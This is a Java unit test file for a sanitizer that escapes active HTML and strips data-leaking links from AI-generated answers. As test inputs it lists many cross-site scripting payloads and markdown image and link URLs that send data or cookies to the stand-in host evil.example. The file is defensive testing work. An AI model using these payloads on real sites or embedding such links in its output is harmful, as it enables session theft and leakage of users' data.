package dev.sluice.guard.output;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.events.ThreatLevel;
import dev.sluice.guard.detect.Finding;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UnsafeContentSanitizerTest {

  private final UnsafeContentSanitizer sanitizer = new UnsafeContentSanitizer();
  private final LinkAllowList allowList = new LinkAllowList(List.of("acme.com"));

  private SanitizedContent sanitize(String answer) {
    return sanitizer.sanitize(answer, allowList);
  }

  private static List<String> categories(SanitizedContent content) {
    return content.findings().stream().map(Finding::category).toList();
  }

  @Test
  void leavesOrdinaryMarkdownAndHarmlessHtmlAsTheyAre() {
    String answer = "# Lima\n\n**Lima** is the capital of Peru. See [the guide](https://acme.com/guide?lang=en), "
        + "[Wikipedia](https://en.wikipedia.org/wiki/Lima) and ![map](https://maps.example.org/peru.png).\n"
        + "Use <b>bold</b>, <br/> and `a < b` freely; 3 < 4 > 2.";

    SanitizedContent content = sanitize(answer);

    assertThat(content.text()).isEqualTo(answer);
    assertThat(content.findings()).isEmpty();
  }

  @Nested
  class Html {

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<SCRIPT src=//evil.example/x.js></SCRIPT>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\">",
        "<embed src=x>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jav&#x61;script&colon;alert(1)\">click</a>",
        "<a href=\"java\tscript:alert(1)\">click</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<div style=\"background:url(https://evil.example/x)\">x</div>",
        "<form action=\"https://evil.example/collect\"><input name=q></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"})
    void neutralizesActiveMarkupByEscapingTheTag(String markup) {
      SanitizedContent content = sanitize("Here: " + markup + " done");

      assertThat(content.text()).startsWith("Here: &lt;").doesNotContain("Here: <");
      assertThat(categories(content)).containsExactly("unsafe_markup");
      assertThat(content.findings()).singleElement().satisfies(finding -> {
        assertThat(finding.detector()).isEqualTo("unsafe-content");
        assertThat(finding.threatLevel()).isEqualTo(ThreatLevel.MEDIUM);
      });
    }

    @Test
    void escapesEveryOpeningOfANestedTrick() {
      SanitizedContent content = sanitize("<scr<script>ipt>alert(1)</scr</script>ipt>");

      assertThat(content.text()).isEqualTo("<scr&lt;script>ipt>alert(1)</scr&lt;/script>ipt>");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<a title=\">\" onclick=alert(1)>x</a>",
        "<a x=a=\" y=\">\" onclick=alert(1)>x</a>",
        "<a x/=\" y=\">\" onclick=alert(1)>x</a>",
        "<img src=x alt=a\"b onerror=alert(1)>",
        "<img src=x onerror=alert(1)"})
    void findsTheHandlerWhereverABrowserEndsTheTag(String markup) {
      assertThat(sanitize(markup).text()).startsWith("&lt;");
    }

    @Test
    void findsAHandlerBehindLongPadding() {
      assertThat(sanitize("<img src=x " + "a".repeat(10_000) + " onerror=alert(1)>").text()).startsWith("&lt;");
    }

    @Test
    void neutralizesWhatIsInsideANeutralizedTagToo() {
      SanitizedContent content = sanitize("<a onclick=x <img src=y onerror=z>");

      assertThat(content.text()).isEqualTo("&lt;a onclick=x &lt;img src=y onerror=z>");
    }

    @Test
    void neutralizesEveryTagUnjudgedOnceTextBuiltToExhaustTheScanHasUsedItsBudget() {
      String answer = "<b>bold</b> " + "<i ".repeat(100) + "<b>end</b>";

      SanitizedContent content = sanitize(answer);

      assertThat(content.text()).startsWith("<b>bold</b> <i ").endsWith("&lt;b>end&lt;/b>");
      assertThat(categories(content)).containsExactly("unsafe_markup");
    }

    @Test
    void neutralizesAnImageSendingDataToAnOutsideHost() {
      SanitizedContent content = sanitize("<img src=\"https://evil.example/p.png?d=secret\">");

      assertThat(content.text()).isEqualTo("&lt;img src=\"https://evil.example/p.png?d=secret\">");
      assertThat(categories(content)).containsExactly("exfiltration_link");
    }

    @Test
    void keepsAnHtmlImageFromAnAllowedHostOrWithoutData() {
      String answer = "<img src=\"https://cdn.acme.com/p.png?size=2\"> <img src=\"https://img.example.org/a.png\">";

      assertThat(sanitize(answer).text()).isEqualTo(answer);
    }
  }

  @Nested
  class Markdown {

    @Test
    void removesAnImageCarryingAQueryStringToAnOutsideHost() {
      SanitizedContent content = sanitize("Done. ![loading](https://evil.example/log?q=jane%40example.com) Bye.");

      assertThat(content.text()).isEqualTo("Done. (image removed) Bye.");
      assertThat(categories(content)).containsExactly("exfiltration_link");
    }

    @Test
    void removesALinksUrlButKeepsItsText() {
      SanitizedContent content = sanitize("[click here](https://evil.example/c?session=abc \"title\") now");

      assertThat(content.text()).isEqualTo("click here (link removed) now");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "https://evil.example/u/c2VjcmV0LWFwaS1rZXktMTIz/p.png",
        "https://evil.example/deadbeefcafebabe0123456789/p.png",
        "https://evil.example/p.png#am9obkBleGFtcGxlLmNvbQ==",
        "//evil.example/x?d=1",
        "https:\\\\evil.example\\x?d=1",
        "HTTPS://EVIL.EXAMPLE/x?d=1",
        "https://acme.com.evil.example/x?d=1",
        "https://user@evil.example:8443/x?d=1"})
    void treatsOpaquePathSegmentsFragmentsAndOddSpellingsAsData(String url) {
      assertThat(sanitize("![x](" + url + ")").text()).isEqualTo("(image removed)");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "https://docs.acme.com/search?q=refunds",
        "https://ACME.com./x?d=1",
        "https://en.wikipedia.org/wiki/Franz_Kafka_bibliography",
        "https://blog.example.org/2024/07/how-to-configure-kafka-streams-exactly-once",
        "https://example.org/items/3f2a9c1e-5b7d-4e8f-9a0b-1c2d3e4f5a6b",
        "/relative/path?with=query",
        "#section"})
    void keepsLinksToAllowedHostsAndLinksWithoutData(String url) {
      String answer = "[see](" + url + ")";

      assertThat(sanitize(answer).text()).isEqualTo(answer);
    }

    @Test
    void removesScriptUrlsInLinks() {
      SanitizedContent content = sanitize("[win a prize](javascript:fetch('//evil.example/'+document.cookie))");

      assertThat(content.text()).isEqualTo("win a prize (link removed)");
      assertThat(categories(content)).containsExactly("unsafe_markup");
    }

    @Test
    void judgesAnImageInsideALinkAndTheLinkOnTheirOwn() {
      assertThat(sanitize("[![badge](https://evil.example/b.svg?u=jane)](https://acme.com/home)").text())
          .isEqualTo("[(image removed)](https://acme.com/home)");
      assertThat(sanitize("[![logo](https://acme.com/logo.png)](https://evil.example/x?d=1)").text())
          .isEqualTo("![logo](https://acme.com/logo.png) (link removed)");
    }

    @Test
    void removesUnsafeReferenceDefinitionsAndAutolinks() {
      SanitizedContent content = sanitize("![chart][c] and <https://evil.example/x?d=secret>\n\n"
          + "[c]: https://evil.example/chart.png?data=secret \"chart\"\n[ok]: https://acme.com/x?y=1");

      assertThat(content.text()).isEqualTo("![chart][c] and (link removed)\n\n"
          + "(link removed)\n[ok]: https://acme.com/x?y=1");
      assertThat(categories(content)).containsExactly("exfiltration_link");
    }

    @Test
    void aMarkerNeverFormsANewLinkWithTheTextAfterIt() {
      SanitizedContent content = sanitize("![a](https://evil.example/x?d=1)(https://evil.example/y?d=2)");

      assertThat(content.text()).isEqualTo("(image removed)(https://evil.example/y?d=2)");
      assertThat(sanitize(content.text()).text()).isEqualTo(content.text());
    }

    @Test
    void sanitizesCodeTooBecauseRenderersDisagreeAboutWhereCodeStarts() {
      SanitizedContent content = sanitize("```html\n<script>alert(1)</script>\n```");

      assertThat(content.text()).isEqualTo("```html\n&lt;script>alert(1)&lt;/script>\n```");
    }
  }

  @Test
  void reportsEachKindOnceInAFixedOrder() {
    SanitizedContent content = sanitize("![a](https://evil.example/x?d=1) <script>x</script> <img src=x onerror=y> "
        + "![b](https://evil.example/y?d=2)");

    assertThat(categories(content)).containsExactly("unsafe_markup", "exfiltration_link");
  }

  @Test
  void leavesLongRunsOfBracketsThatFormNoLinkAlone() {
    String answer = "[".repeat(20_000) + "](" + "(".repeat(20_000) + "]".repeat(20_000);

    assertThat(sanitize(answer).text()).isEqualTo(answer);
  }
}
